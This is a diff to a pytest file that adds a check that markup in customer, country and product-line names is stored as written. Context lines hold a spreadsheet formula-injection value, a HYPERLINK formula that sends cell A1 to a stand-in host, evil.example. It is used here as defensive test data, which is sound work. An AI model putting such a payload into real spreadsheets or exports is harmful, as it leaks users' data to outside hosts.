@@ -259,6 +259,8 @@ def test_accepted_file_loads(
             check_only_cancelled(engine)
         elif case["file"] == "formula_names.csv":
             check_formulas_stored_as_written(engine)
+        elif case["file"] == "markup_names.csv":
+            check_markup_stored_as_written(engine)
         else:
             pytest.fail(f"no content check for accepted file {case['file']}")
     finally:
@@ -285,6 +287,21 @@ def check_formulas_stored_as_written(engine: Engine) -> None:
     with snapshot(engine) as conn:
         customers = set(breakdown(conn, Filters(statuses=ALL_STATUSES), "customer")["customer_name"])
     assert '=HYPERLINK("http://evil.example/x?leak="&A1,"Alpha Co")' in customers
+
+
+def check_markup_stored_as_written(engine: Engine) -> None:
+    """Markup in names is data like any other: stored and answered exactly as written (the dashboard escapes it
+    where it shows it: tests/e2e/test_markup_browser.py)."""
+    from tests.data.bad.make_corpus import MARKUP_COUNTRY, MARKUP_CUSTOMER, MARKUP_PRODUCT_LINE
+
+    with snapshot(engine) as conn:
+        everything = Filters(statuses=ALL_STATUSES)
+        customers = set(breakdown(conn, everything, "customer")["customer_name"])
+        countries = set(breakdown(conn, everything, "country")["country"])
+        lines = set(breakdown(conn, everything, "product_line")["product_line"])
+    assert MARKUP_CUSTOMER in customers
+    assert MARKUP_COUNTRY in countries
+    assert MARKUP_PRODUCT_LINE in lines
 
 
 # -- as a user runs it: a real process ------------------------------------------------------------------------
